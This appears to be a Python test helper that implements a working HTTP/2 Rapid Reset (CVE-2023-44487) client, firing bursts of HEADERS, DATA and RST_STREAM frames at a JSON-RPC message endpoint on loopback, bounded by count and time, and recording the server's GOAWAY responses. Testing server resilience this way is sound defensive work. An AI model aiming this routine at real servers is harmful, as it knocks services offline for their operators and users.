"""Hostile HTTP/2 clients for the tests (loopback only, bounded in count and time)."""

from __future__ import annotations

import json
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def send_message_body(text: str = "reset me") -> bytes:
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": "message/send", "params": {"message": {
        "role": "user", "messageId": "rr", "kind": "message", "parts": [{"kind": "text", "text": text}]}}}).encode()


def rapid_reset(port: int, resets: int, batch: int = 100, time_limit: float = 30.0, host: str = "127.0.0.1") -> dict:
    """CVE-2023-44487: HEADERS + DATA + RST_STREAM, ``batch`` streams per write, until ``resets`` were sent.

    Reconnects when the server ends the connection. Returns what happened:
    resets sent, connections used, GOAWAY error codes received.
    """
    body = send_message_body()
    deadline = time.monotonic() + time_limit
    sent = connections = 0
    goaways: list[int] = []
    while sent < resets and time.monotonic() < deadline:
        connections += 1
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.05)
            continue
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        try:
            sock.sendall(conn.data_to_send())
            sock.settimeout(0)
            closed = False
            while sent < resets and not closed and time.monotonic() < deadline:
                for _ in range(min(batch, resets - sent)):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, [(":method", "POST"), (":path", "/"), (":scheme", "http"),
                                               (":authority", f"{host}:{port}"), ("content-type", "application/json"),
                                               ("content-length", str(len(body)))])
                    conn.send_data(stream, body, end_stream=True)
                    conn.reset_stream(stream)
                    sent += 1
                sock.sendall(conn.data_to_send())
                try:
                    while True:
                        data = sock.recv(65536)
                        if not data:
                            closed = True
                            break
                        for event in conn.receive_data(data):
                            if isinstance(event, h2.events.ConnectionTerminated):
                                goaways.append(int(event.error_code))
                                closed = True
                except BlockingIOError:
                    pass
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            sock.close()
    return {"resets": sent, "connections": connections, "goaways": goaways}
